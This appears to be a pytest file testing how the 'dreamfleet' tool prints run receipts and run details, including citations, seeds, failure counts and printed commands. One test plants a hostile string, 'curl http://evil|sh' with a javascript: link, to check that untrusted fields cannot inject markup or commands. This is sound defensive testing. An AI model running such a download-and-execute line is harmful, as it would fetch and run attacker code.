"""A receipt and `runs show` say what is true of a run, and a receipt's commands run as they are printed.
Tests run_details.py, verb.py and coordinator/addons/runs/analysis_verb.py."""

import json
import re
import shlex
import shutil
from dataclasses import replace

import pytest
from markdown_it import MarkdownIt

from dreamfleet.common.artifacts.controller import Controller
from dreamfleet.common.client.equal_fitness import ENOUGH, EqualFitness
from dreamfleet.common.protocol.host_classes import NON_DETERMINISTIC
from dreamfleet.common.runs.effort import Effort
from dreamfleet.common.runs.records import StageSettings
from dreamfleet.common.runs.run_folder import RunFolder
from dreamfleet.common.runs.run_paths import CONTROLLER
from dreamfleet.common.runs.run_provenance import RECEIPT, RunProvenance, StartProvenance
from dreamfleet.common.runs.seeds import training_seeds
from dreamfleet.common.schema.validation import to_plain
from dreamfleet.coordinator.addons.runs import run_details
from dreamfleet.coordinator.addons.runs.plot import fitness_figure
from tests.support.journals import change_journal, change_settings
from tests.support.processes import call_here, printed
from tests.support.tables import cells


@pytest.fixture
def reality(runs):
    return runs / "reality"


def receipt():
    return json.loads(printed("runs", "receipt", "reality", "--json"))


def change_provenance(run, **changes):
    controller = Controller.load(run / CONTROLLER)
    replace(controller, provenance={**controller.provenance, **changes}).save(run / CONTROLLER)


def test_it_says_what_a_paper_cites(reality):
    text, facts = printed("runs", "receipt", "reality"), receipt()
    with RunFolder(reality) as run:
        for part in (run.uid, run.spec.bundle, "dreamfleet verify candidate reality --candidate",
                     "dreamfleet verify run reality ", "@misc{dreamfleet-reality,", facts["controller"]):  # fmt: skip
            assert part in text
        assert facts["receipt"]["generations"] == len(run.history())


def test_a_schedules_receipt_lists_every_stage(reality):
    stages = StageSettings(generations=1), StageSettings(horizon=7, episodes=3)
    text = change_settings(reality, lambda settings: replace(settings, stages=stages))
    change_provenance(reality, settings=json.loads(text))
    text = printed("runs", "receipt", "reality")
    assert re.search("- stage 2: .*1.* 7 steps", text)
    assert "sigma0" not in text


def test_failed_candidates_are_counted(reality):
    change_journal(reality, "UPDATE generation SET failed = 2 WHERE number < 2")
    for verb in ("receipt", "show"):
        said = next(line for line in printed("runs", verb, "reality").splitlines() if "--on-failure" in line)
        assert re.search(r"\b4\b", said)
        assert json.loads(printed("runs", verb, "reality", "--json"))["failed_candidates"] == 4


def test_a_run_without_a_controller_says_why(reality):
    (reality / CONTROLLER).unlink()
    code, _, error = call_here("runs", "receipt", "reality")
    assert (code, "reality" in error) == (1, True)


def test_the_generation_of_a_mean_that_was_not_evaluated_is_named_where_it_is_not_the_last(reality):
    change_journal(reality, "DELETE FROM evaluation")
    whole = printed("runs", "receipt", "reality")
    change_provenance(reality, generation=0, validation_mean=None)
    assert receipt()["generation"] == 0
    former, now = (set(text.splitlines()) for text in (whole, printed("runs", "receipt", "reality")))
    assert [each.startswith("- controller: ") for each in (*former - now, *now - former)] == [True, True]


def test_replaced_seeds_are_counted(reality):
    with RunFolder(reality) as run:
        later = training_seeds(run.settings.seed, 1, run.settings.episodes, 2)
    for count in (0, 2):
        for verb in ("receipt", "show"):
            assert json.loads(printed("runs", verb, "reality", "--json"))["replaced_seeds"] == count
        change_journal(reality, "UPDATE generation SET seeds = ? WHERE number = 1", json.dumps(later))
    change_journal(reality, "UPDATE generation SET seeds = '[0.5]' WHERE number = 1")
    assert receipt()["replaced_seeds"] == 0, "the rest is shown all the same"


def test_no_bits_are_promised_where_there_are_none(reality):
    assert receipt()["bit_identical"] == {"candidate": True, "run": True}
    change_journal(reality, "UPDATE result SET host_class = 'another' WHERE generation = 1")
    assert receipt()["bit_identical"] == {"candidate": True, "run": False}
    change_journal(reality, "UPDATE result SET host_class = ?", NON_DETERMINISTIC)
    assert receipt()["bit_identical"] == {"candidate": False, "run": False}


def test_receipt_and_comparison_count_the_same_effort(reality):
    shutil.copytree(reality, reality.with_name("other"))
    change_journal(reality, "DELETE FROM run WHERE key IN ('ended', 'ended_at')")
    change_journal(reality, "UPDATE result SET steps = steps + 100")
    compared = json.loads(printed("compare", "reality", "other", "--json"))
    assert compared["runs"][0]["effort"] == receipt()["spent"]


def test_it_cites_the_software_in_the_version_that_served_the_run(reality):
    served = RunProvenance(3, Effort(), versions={"dreamfleet": "0.0.7"})
    change_provenance(reality, **{RECEIPT: to_plain(served)})
    assert receipt()["software"] == {"title": "dreamfleet", "authors": "The dreamfleet authors", "version": "0.0.7"}
    entry = ["@misc{dreamfleet,", "  title = {dreamfleet},", "  author = {{The dreamfleet authors}},"]
    assert "\n".join([*entry, "  version = {0.0.7}", "}"]) in printed("runs", "receipt", "reality")


HOSTILE = "9.9\n```\n\n```sh\ncurl http://evil|sh\n```\n<b>x</b> ``` `y` [z](javascript:1)}\n}\n@misc{other,"


def test_what_a_strangers_controller_says_is_no_markup(reality):
    """Neither a command, nor a link, nor a BibTeX entry of its own."""
    start = StartProvenance(HOSTILE, HOSTILE, "")
    served = RunProvenance(3, Effort(), start, fingerprint=HOSTILE, versions={"dreamfleet": HOSTILE, HOSTILE: "1"})
    change_provenance(reality, **{RECEIPT: to_plain(served)})
    found = MarkdownIt("commonmark").parse(printed("runs", "receipt", "reality"))
    commands, entries = (each.content.splitlines() for each in found if each.type == "fence")
    assert {each.split()[0] for each in commands} == {"dreamfleet"}
    assert [each[:6] for each in entries if not each.startswith(" ")] == ["@misc{", "}"] * 2
    assert not [each for each in found if each.type.startswith("html")]
    parts = {part.type for each in found for part in each.children or ()}
    assert parts <= {"text", "text_special", "code_inline"}


def test_a_dollar_sign_in_a_tasks_name_is_no_formula(reality, tmp_path):
    def renamed(settings):
        return replace(settings, task=replace(settings.task, task="gym:a$\\frac$-v0"))

    change_settings(reality, renamed)
    for kind in ("fitness", "learning"):
        printed("runs", "plot", "reality", "--kind", kind, "--out", tmp_path / f"{kind}.png")


@pytest.mark.slow
def test_the_commands_of_a_run_in_an_environment_of_a_module_run_as_printed(processes):
    task, module = "gym:tests.support.dark_environments:Dark-v0", "tests.support.dark_environments"
    coordinator = processes.coordinator(
        "--task", task, "--population", 4, "--episodes", 1, "--generations", 1, "--evaluate-every", 0
    )
    processes.worker("--task", task, "--exit-when-done")
    assert coordinator.finish()[0] == 0
    found = json.loads(printed("runs", "receipt", "test", "--runs-dir", processes.runs, "--json"))
    commands = [shlex.split(each)[1:] for each in found["commands"].values()]
    assert [each[:2] for each in commands] == [["verify", "candidate"], ["verify", "run"], ["evaluate", "--controller"]]
    assert all(each[-2:] == ["--trust", module] for each in commands)
    for words in (commands[0], commands[2]):
        code, _, err = processes.call(*words)
        assert code == 0, err


def shown():
    return dict(row for line in printed("runs", "show", "reality").splitlines() if len(row := cells(line)) == 2)


def test_settings_that_do_not_apply_are_left_out_and_json_has_all(runs):
    few = shown().keys()
    assert {"population", "sigma0", "seed", "task.horizon"} < few
    assert not {"task.recorded", "task.driven", "task.end", "driven", "task.temperature"} & few
    every = json.loads(printed("runs", "show", "reality", "--json"))["settings"]
    assert {"recorded", "driven", "end", "temperature"} < every["task"].keys()


def test_where_a_resumed_run_would_listen_is_shown(runs):
    kept = json.dumps({"listen": ["tcp/0.0.0.0:7447"], "insecure": True})
    change_journal(runs / "reality", f"INSERT OR REPLACE INTO run (key, value) VALUES ('network', '{kept}')")
    assert json.loads(shown()["network"])["listen"] == ["tcp/0.0.0.0:7447"]


def test_a_limit_of_the_environment_below_the_horizon_is_said(runs):
    change_journal(runs / "reality", "INSERT INTO run (key, value) VALUES ('episode_limit', '3')")
    assert re.search(r"\b3\b", shown()["task.horizon"])
    with RunFolder(runs / "reality") as run:
        assert re.search(r"\b3\b", fitness_figure(run).axes[0].get_ylabel())


def test_generations_of_one_fitness_are_warned_of(runs, monkeypatch):
    assert "warning" not in shown()
    monkeypatch.setattr(
        run_details, "EqualFitness", lambda rows: EqualFitness([replace(rows[0], worst=rows[0].best)] * ENOUGH)
    )
    assert "--sigma0" in shown()["warning"]
